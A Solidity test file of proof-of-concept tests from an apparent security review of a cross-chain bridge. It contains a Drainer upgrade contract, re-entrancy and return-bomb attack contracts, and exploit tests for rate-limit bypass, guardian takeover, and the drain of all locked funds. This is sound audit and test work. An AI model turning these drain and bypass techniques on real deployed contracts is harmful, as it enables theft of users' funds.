// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import {Fixture} from "./utils/Fixture.sol";
import {Bridge} from "../src/Bridge.sol";
import {BridgeAdmin} from "../src/BridgeAdmin.sol";
import {BridgeBase} from "../src/BridgeBase.sol";
import {TrestleProtocol as P} from "../src/TrestleProtocol.sol";
import {GasRecipient, MockERC20} from "./utils/Mocks.sol";
import {IMessageRecipient} from "../src/IMessageRecipient.sol";
import {Vm} from "./Vm.sol";
import {BridgedToken} from "../src/BridgedToken.sol";

contract BridgedTokenLike is BridgedToken {
    constructor(address b) BridgedToken(b, "Nine", "N9", 9) {}
}

/// @notice What a compromised admin installs: a UUPS implementation that empties the proxy.
contract Drainer is UUPSUpgradeable {
    function _authorizeUpgrade(address) internal override {}

    function drain(address token, address to) external {
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok, "eth");
        MockERC20(token).transfer(to, MockERC20(token).balanceOf(address(this)));
    }
}

/// @notice A recipient that tries to re-enter the bridge from `handle` (deliver, executeQueued).
contract ReentrantRecipient is IMessageRecipient {
    address public immutable bridge;
    bytes public inner;
    bytes public innerSigs;
    bool public reentered;
    bytes public reason;

    constructor(address bridge_) {
        bridge = bridge_;
    }

    function arm(bytes calldata m, bytes calldata s) external {
        inner = m;
        innerSigs = s;
    }

    function handle(uint32, bytes32, bytes calldata) external {
        (bool ok, bytes memory ret) = bridge.call(abi.encodeCall(Bridge.deliver, (inner, innerSigs)));
        reentered = ok;
        reason = ret;
    }
}

/// @notice An ether beneficiary whose `receive` tries to re-enter `executeQueued` and
/// `withdraw` (and records what happened instead of reverting).
contract ReentrantBeneficiary {
    address public immutable bridge;
    bytes public queued;
    bytes4 public first;
    bytes4 public second;
    uint256 public got;

    constructor(address bridge_) {
        bridge = bridge_;
    }

    function arm(bytes calldata m) external {
        queued = m;
    }

    receive() external payable {
        got += msg.value;
        (, bytes memory r1) = bridge.call(abi.encodeCall(Bridge.executeQueued, (queued)));
        (, bytes memory r2) = bridge.call(abi.encodeWithSignature("withdraw(address,address)", address(0), address(this)));
        first = bytes4(r1);
        second = bytes4(r2);
    }
}

/// @notice A recipient that reverts with as much return data as its gas allows.
contract ReturnBomb is IMessageRecipient {
    function handle(uint32, bytes32, bytes calldata) external pure {
        assembly {
            revert(0, 60000)
        }
    }
}

/// @notice Proofs of concept of the independent review of the v2 diff (909e3fa..HEAD).
/// Each `test_poc_*` PASSES when the weakness is present (it asserts the attacker's success).
/// `test_check_*` tests assert properties the review verified hold (no finding).
contract ReviewPoCTest is Fixture {
    bytes32 internal constant MESSAGE_SENT = keccak256("MessageSent(bytes32,uint32,uint64,bytes)");

    function deliverCall(bytes memory m, bytes memory s) internal pure returns (bytes memory) {
        return abi.encodeCall(Bridge.deliver, (m, s));
    }

    function status(bytes memory m) internal view returns (BridgeBase.Status) {
        return bridge.statusOf(m);
    }

    // =====================================================================================
    // F-1 (medium): a transfer above the route's inbound capacity but below the token's
    // timelock threshold is queued with readyAt = now and `_consumeQueued` lets it through
    // on a full bucket, emptying it: one message moves any amount below the threshold
    // instantly (deliver + executeQueued in one transaction, so the guardian cannot cancel).
    // =====================================================================================

    function test_poc_F1_over_capacity_transfer_bypasses_the_inbound_rate_limit() public {
        // A weak origin's route gets a small bucket: 100 ether capacity, refilling in ~1 day.
        // The token's timelock threshold is global (TIMELOCK_THRESHOLD = 1,000 ether): nothing
        // in setToken/setLimits relates the two.
        uint128 cap = 100 ether;
        uint128 refill = 0.0012 ether; // ~100 ether per 83,333 s
        adminCall(abi.encodeCall(BridgeAdmin.setLimits, (nativeId, ORIGIN, cap, refill, CAPACITY, REFILL)));
        assertEq(gov.availableFor(nativeId, ORIGIN, true), cap, "bucket full");

        // Compromised validator set (or any sender): 999 ether, 10x the capacity, just under
        // the timelock threshold.
        uint256 big = TIMELOCK_THRESHOLD - 1 ether;
        address attacker = address(0xBAD);
        bytes memory m = transferMsg(0, nativeId, big, attacker);
        uint256 t0 = block.timestamp;
        bridge.deliver(m, sign(m, 4));
        assertTrue(status(m) == BridgeBase.Status.Queued, "queued by the rate limit, readyAt = now");
        (, uint64 readyAt,,,) = gov.records(keccak256(m));
        assertEq(readyAt, t0, "no delay at all");
        // Same block: anyone executes it.
        bridge.executeQueued(m);
        assertEq(block.timestamp, t0, "same block");
        assertEq(attacker.balance, big, "10x the bucket's capacity released at once");

        // Repeat every time the bucket is full: ~999 ether per refill period instead of 100.
        vm.warp(block.timestamp + uint256(cap) / refill + 1);
        bytes memory m2 = transferMsg(1, nativeId, big, attacker);
        bridge.deliver(m2, sign(m2, 4));
        bridge.executeQueued(m2);
        assertEq(attacker.balance, 2 * big, "again after one refill period");
        // While a sequence of in-capacity transfers meets the bucket as intended:
        bytes memory small = transferMsg(2, nativeId, cap, attacker);
        bridge.deliver(small, sign(small, 4));
        expectError(abi.encodeCall(Bridge.executeQueued, (small)), BridgeBase.RateLimited.selector);
    }

    // =====================================================================================
    // F-2 (medium): a single admin key neutralizes the guardian (setRoles cannot be vetoed)
    // and then upgrades; a pause does not stop `execute`, so the guardian has no way to
    // stop the drain.
    // =====================================================================================

    function test_poc_F2_admin_alone_replaces_guardian_and_drains_while_paused() public {
        address evilGuardian = address(0xE71);
        bytes memory roles = abi.encodeCall(BridgeAdmin.setRoles, (ADMIN, evilGuardian));
        vm.prank(ADMIN);
        bytes32 rid = gov.propose(roles, bytes32(uint256(1)));
        // The honest guardian sees it and tries everything it has:
        expectErrorFrom(GUARDIAN, abi.encodeCall(BridgeAdmin.cancelProposal, (rid)), 0, BridgeBase.GuardianCannotVeto.selector);
        vm.prank(GUARDIAN);
        gov.pause();
        vm.warp(block.timestamp + ADMIN_DELAY);
        gov.execute(roles, bytes32(uint256(1))); // executes while paused
        assertEq(gov.guardian(), evilGuardian, "guardian replaced by the admin alone");

        // Now nobody vetoes: an upgrade that drains, executed while the bridge is still paused.
        Drainer drainer = new Drainer();
        address thief = address(0x7E1F);
        bytes memory up = abi.encodeCall(
            UUPSUpgradeable.upgradeToAndCall,
            (address(drainer), abi.encodeCall(Drainer.drain, (address(homeToken), thief)))
        );
        vm.prank(ADMIN);
        gov.propose(up, bytes32(uint256(2)));
        vm.warp(block.timestamp + ADMIN_DELAY);
        assertTrue(gov.paused(), "still paused");
        gov.execute(up, bytes32(uint256(2)));
        assertEq(thief.balance, LEDGER, "all locked ether");
        assertEq(homeToken.balanceOf(thief), LEDGER, "all locked tokens");
        assertEq(address(bridge).balance, 0, "bridge empty");
    }

    // =====================================================================================
    // F-3 (low): the selector allowlist, "unpause only while paused" and StaleUnpause look
    // at the outer selector only. `upgradeToAndCall(currentImpl, data)` delegatecalls `data`
    // with msg.sender == the proxy, so any self-only call (an unpause proposed before the
    // pause) or a non-allowlisted call (a message sent *by the bridge*) rides inside it.
    // =====================================================================================

    function _impl() internal view returns (address) {
        return address(
            uint160(uint256(vm.load(address(bridge), 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)))
        );
    }

    function test_poc_F3_unpause_queued_before_the_pause_via_upgradeToAndCall() public {
        // An unpause cannot be proposed while not paused...
        expectErrorFrom(
            ADMIN,
            abi.encodeCall(BridgeAdmin.propose, (abi.encodeCall(BridgeAdmin.unpause, ()), 0)),
            0,
            BridgeBase.NotPaused.selector
        );
        // ...but wrapped in a no-op upgrade it can.
        bytes memory wrapped_ =
            abi.encodeCall(UUPSUpgradeable.upgradeToAndCall, (_impl(), abi.encodeCall(BridgeAdmin.unpause, ())));
        vm.prank(ADMIN);
        gov.propose(wrapped_, 0);
        // An incident: the guardian pauses after the proposal was made.
        vm.warp(block.timestamp + 1 hours);
        vm.prank(GUARDIAN);
        gov.pause();
        vm.warp(block.timestamp + ADMIN_DELAY);
        gov.execute(wrapped_, 0); // proposedAt < pausedAt, yet no StaleUnpause
        assertTrue(!gov.paused(), "a pre-pause unpause ended the pause");
    }

    function test_poc_F3_bridge_sends_a_message_as_itself_via_upgradeToAndCall() public {
        bytes memory send = abi.encodeCall(Bridge.sendMessage, (ORIGIN, b32(BOB), GAS_LIMIT, "from the bridge"));
        expectErrorFrom(ADMIN, abi.encodeCall(BridgeAdmin.propose, (send, 0)), 0, BridgeBase.NotAnAdminCall.selector);
        bytes memory wrapped_ = abi.encodeCall(UUPSUpgradeable.upgradeToAndCall, (_impl(), send));
        vm.prank(ADMIN);
        gov.propose(wrapped_, 0);
        vm.warp(block.timestamp + ADMIN_DELAY);
        vm.recordLogs();
        gov.execute(wrapped_, 0);
        Vm.Log[] memory logs = vm.getRecordedLogs();
        bytes memory message;
        for (uint256 i; i < logs.length; ++i) {
            if (logs[i].topics[0] == MESSAGE_SENT) message = abi.decode(logs[i].data, (bytes));
        }
        (P.Header memory h,) = this.decodeExt(message);
        assertEq(h.sender, b32(address(bridge)), "a message whose sender is the bridge itself");
    }

    function decodeExt(bytes calldata m) external pure returns (P.Header memory h, bytes memory body) {
        return P.decode(m);
    }

    // =====================================================================================
    // F-4 (low): `_records` is keyed by the message id, which does not name the origin
    // bridge, while replay is keyed by (origin, origin bridge, nonce). After setRemote points
    // a domain at a redeployed bridge, a message byte-identical to one of the old bridge's
    // (same nonce, sender, recipient, body: the sender can align nonces with sendMessage)
    // overwrites the old record: a queued entry is lost (ledger taken twice, paid once), a
    // cancelled one turns back into Queued (its refund path disappears).
    // =====================================================================================

    function test_poc_F4_identical_message_from_a_redeployed_origin_overwrites_the_record() public {
        bytes memory m = transferMsg(7, homeId, TIMELOCK_THRESHOLD, BOB); // timelocked
        bridge.deliver(m, sign(m, 4));
        int256 afterFirst = ledgerOf(homeId, ORIGIN);
        bytes32 newBridge = bytes32(uint256(0x00b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2));
        adminCall(abi.encodeCall(BridgeAdmin.setRemote, (ORIGIN, newBridge, 0)));
        // The same bytes, attested for the new origin bridge (a new replay key).
        bytes32 d = P.digest(ORIGIN, newBridge, LOCAL, b32(address(bridge)), epoch, keccak256(m));
        bytes memory sigs;
        for (uint256 i; i < 4; ++i) {
            sigs = bytes.concat(sigs, sigOf(keys[i], d));
        }
        bridge.deliver(m, sigs);
        assertEq(ledgerOf(homeId, ORIGIN), afterFirst - int256(uint256(TIMELOCK_THRESHOLD)), "ledger taken twice");
        vm.warp(block.timestamp + TRANSFER_DELAY);
        bridge.executeQueued(m);
        expectError(abi.encodeCall(Bridge.executeQueued, (m)), BridgeBase.NotQueued.selector);
        assertEq(homeToken.balanceOf(BOB), TIMELOCK_THRESHOLD, "two deliveries, one payout");
        // and the guardian cannot give the second one back either
        expectErrorFrom(GUARDIAN, abi.encodeCall(BridgeAdmin.cancelQueued, (keccak256(m))), 0, BridgeBase.NotQueued.selector);
    }

    function test_poc_F4_cancelled_record_resurrected_and_refund_lost() public {
        bytes memory m = transferMsg(7, homeId, TIMELOCK_THRESHOLD, BOB);
        bridge.deliver(m, sign(m, 4));
        vm.prank(GUARDIAN);
        gov.cancelQueued(keccak256(m));
        bytes32 newBridge = bytes32(uint256(0x00b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2));
        adminCall(abi.encodeCall(BridgeAdmin.setRemote, (ORIGIN, newBridge, 0)));
        bytes32 d = P.digest(ORIGIN, newBridge, LOCAL, b32(address(bridge)), epoch, keccak256(m));
        bytes memory sigs;
        for (uint256 i; i < 4; ++i) {
            sigs = bytes.concat(sigs, sigOf(keys[i], d));
        }
        bridge.deliver(m, sigs);
        assertTrue(status(m) == BridgeBase.Status.Queued, "Cancelled -> Queued");
        vm.warp(block.timestamp + TRANSFER_DELAY);
        bridge.executeQueued(m);
        // The first (cancelled) transfer can no longer be refunded.
        bytes memory call = abi.encodeCall(BridgeAdmin.refundCancelled, (m));
        vm.prank(ADMIN);
        gov.propose(call, bytes32(uint256(0xfeed)));
        vm.warp(block.timestamp + ADMIN_DELAY);
        expectError(abi.encodeCall(BridgeAdmin.execute, (call, bytes32(uint256(0xfeed)))), BridgeBase.NotCancelled.selector);
    }

    // =====================================================================================
    // F-5 (low): refundCancelled sends to the origin domain's *current* bridge, not the
    // bridge the cancelled message came from; after a redeploy the new bridge, which never
    // locked the amount, pays it out of what other users locked there.
    // =====================================================================================

    function test_poc_F5_refund_is_addressed_to_the_current_remote_bridge() public {
        bytes memory m = transferMsg(3, homeId, TIMELOCK_THRESHOLD, BOB);
        bridge.deliver(m, sign(m, 4)); // from REMOTE_BRIDGE
        vm.prank(GUARDIAN);
        gov.cancelQueued(keccak256(m));
        bytes32 newBridge = bytes32(uint256(0x00b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2));
        adminCall(abi.encodeCall(BridgeAdmin.setRemote, (ORIGIN, newBridge, 0)));
        vm.recordLogs();
        adminCall(abi.encodeCall(BridgeAdmin.refundCancelled, (m)));
        Vm.Log[] memory logs = vm.getRecordedLogs();
        bytes memory refund;
        for (uint256 i; i < logs.length; ++i) {
            if (logs[i].topics[0] == MESSAGE_SENT) refund = abi.decode(logs[i].data, (bytes));
        }
        (P.Header memory h,) = this.decodeExt(refund);
        assertEq(h.recipient, newBridge, "refund to the redeployed bridge, not to the one that locked it");
    }

    // =====================================================================================
    // F-6 (info): a beneficiary equal to the bridge itself is accepted at send and at
    // delivery: a home ERC-20 "paid" to the bridge stays in it while the route's ledger
    // forgets it (stranded collateral); a refund of a refund produces exactly this.
    // =====================================================================================

    function test_poc_F6_beneficiary_the_bridge_itself_strands_collateral() public {
        uint256 before = homeToken.balanceOf(address(bridge));
        int256 ledgerBefore = ledgerOf(homeId, ORIGIN);
        bytes memory m = transferMsg(0, homeId, 5e18, address(bridge));
        bridge.deliver(m, sign(m, 4));
        assertEq(homeToken.balanceOf(address(bridge)), before, "nothing left the bridge");
        assertEq(ledgerOf(homeId, ORIGIN), ledgerBefore - 5e18, "but the ledger counts it as released");
        assertTrue(status(m) == BridgeBase.Status.Executed, "executed");
        // and sending to the remote bridge as beneficiary is accepted too
        homeToken.mint(USER, 1e18);
        vm.prank(USER);
        homeToken.approve(address(bridge), 1e18);
        vm.prank(USER);
        bridge.sendToken(ORIGIN, homeId, 1e18, REMOTE_BRIDGE);
    }

    // =====================================================================================
    // Checks that hold (no finding): deliverBatch under low gas marks nothing delivered; a
    // recipient cannot re-enter deliver; the admin module and implementation refuse to run
    // on their own storage.
    // =====================================================================================

    function test_check_batch_out_of_gas_marks_nothing() public {
        GasRecipient r = new GasRecipient();
        r.setBurn(true);
        bytes[] memory ms = new bytes[](3);
        bytes[] memory ss = new bytes[](3);
        for (uint64 i; i < 3; ++i) {
            ms[i] = gasMsg(i, address(r), 1_000_000, "");
            ss[i] = sign(ms[i], 4);
        }
        (bool ok, bytes memory ret) =
            address(bridge).call{gas: 1_300_000}(abi.encodeCall(Bridge.deliverBatch, (ms, ss)));
        assertTrue(ok, "batch returned");
        bool[] memory res = abi.decode(ret, (bool[]));
        assertTrue(res[0] && !res[1] && !res[2], "first delivered (recipient Failed), the rest out of gas");
        assertTrue(status(ms[0]) == BridgeBase.Status.Failed, "first: Failed with its full gas limit");
        for (uint256 i; i < 3; ++i) {
            bool marked = bridge.delivered(ORIGIN, REMOTE_BRIDGE, uint64(i));
            assertTrue(res[i] == marked, "result and bit agree");
            if (!res[i]) assertTrue(status(ms[i]) == BridgeBase.Status.None, "a failed item records nothing");
        }
    }

    function test_check_beneficiary_cannot_reenter_executeQueued_or_withdraw() public {
        ReentrantBeneficiary b = new ReentrantBeneficiary(address(bridge));
        bytes memory q = transferMsg(1, nativeId, TIMELOCK_THRESHOLD, BOB);
        bridge.deliver(q, sign(q, 4));
        vm.warp(block.timestamp + TRANSFER_DELAY);
        b.arm(q);
        bytes memory m = transferMsg(2, nativeId, 1 ether, address(b));
        bridge.deliver(m, sign(m, 4));
        assertEq(b.got(), 1 ether, "paid");
        assertEq(bytes32(b.first()), bytes32(BridgeBase.Reentrancy.selector), "executeQueued locked");
        assertEq(bytes32(b.second()), bytes32(BridgeBase.Reentrancy.selector), "withdraw locked");
        assertTrue(status(q) == BridgeBase.Status.Queued, "queued entry untouched");
    }

    function test_check_return_bomb_costs_only_the_gas_limit() public {
        ReturnBomb r = new ReturnBomb();
        bytes memory m = gasMsg(0, address(r), 100_000, "");
        bytes memory data = deliverCall(m, sign(m, 4));
        uint256 g = gasleft();
        (bool ok,) = address(bridge).call{gas: 5_000_000}(data);
        uint256 used = g - gasleft();
        assertTrue(ok, "delivered");
        assertTrue(status(m) == BridgeBase.Status.Failed, "failed, retryable");
        assertLe(used, 100_000 + 150_000, "return data was not copied");
    }

    function test_check_message_to_the_bridge_itself_fails_softly() public {
        bytes memory m = gasMsg(0, address(bridge), 200_000, abi.encodeCall(BridgeAdmin.unpause, ()));
        bridge.deliver(m, sign(m, 4));
        assertTrue(status(m) == BridgeBase.Status.Failed, "never called");
        expectError(abi.encodeCall(Bridge.retryMessage, (m)), BridgeBase.RetryFailed.selector);
        // nor its implementation or admin module (they refuse `handle`)
        address impl = _impl();
        bytes memory m1 = gasMsg(1, impl, 200_000, "");
        bridge.deliver(m1, sign(m1, 4));
        assertTrue(status(m1) == BridgeBase.Status.Failed, "implementation");
        bytes memory m2 = gasMsg(2, Bridge(payable(impl)).ADMIN_MODULE(), 200_000, "");
        bridge.deliver(m2, sign(m2, 4));
        assertTrue(status(m2) == BridgeBase.Status.Failed, "admin module");
    }

    function test_check_inbound_amount_must_convert_exactly() public {
        // a bridged token 9 decimals below home (localExp 9)
        bytes32 homeTok = bytes32(uint256(0x71));
        bytes32 id = P.tokenId(ORIGIN, homeTok);
        address local = address(new BridgedTokenLike(address(bridge)));
        bytes[] memory calls = new bytes[](3);
        calls[0] = abi.encodeCall(BridgeAdmin.setToken, (ORIGIN, homeTok, local, 9, TIMELOCK_THRESHOLD, TRANSFER_DELAY));
        calls[1] = abi.encodeCall(BridgeAdmin.setRoute, (id, ORIGIN, 0, type(uint128).max));
        calls[2] = abi.encodeCall(BridgeAdmin.setLimits, (id, ORIGIN, CAPACITY, REFILL, CAPACITY, REFILL));
        adminCalls(calls);
        bytes memory dust = transferMsg(0, id, 1e9 + 1, BOB);
        expectError(deliverCall(dust, sign(dust, 4)), BridgeBase.InvalidAmount.selector);
        bytes memory huge = transferMsg(0, id, (uint256(type(uint128).max) + 1) * 1e9, BOB);
        expectError(deliverCall(huge, sign(huge, 4)), BridgeBase.InvalidAmount.selector);
        bytes memory ok_ = transferMsg(0, id, 5e9, BOB);
        bridge.deliver(ok_, sign(ok_, 4));
        assertEq(BridgedTokenLike(local).balanceOf(BOB), 5, "5 local units");
    }

    function test_check_recipient_cannot_reenter_deliver() public {
        ReentrantRecipient r = new ReentrantRecipient(address(bridge));
        bytes memory inner = transferMsg(1, wrappedId, 1e18, address(r));
        r.arm(inner, sign(inner, 4));
        bytes memory m = gasMsg(0, address(r), 500_000, "");
        bridge.deliver(m, sign(m, 4));
        assertTrue(!r.reentered(), "re-entered");
        assertEq(bytes32(selectorOf(r.reason())), bytes32(BridgeBase.Reentrancy.selector), "Reentrancy");
        assertTrue(!bridge.delivered(ORIGIN, REMOTE_BRIDGE, 1), "inner not delivered");
    }
}
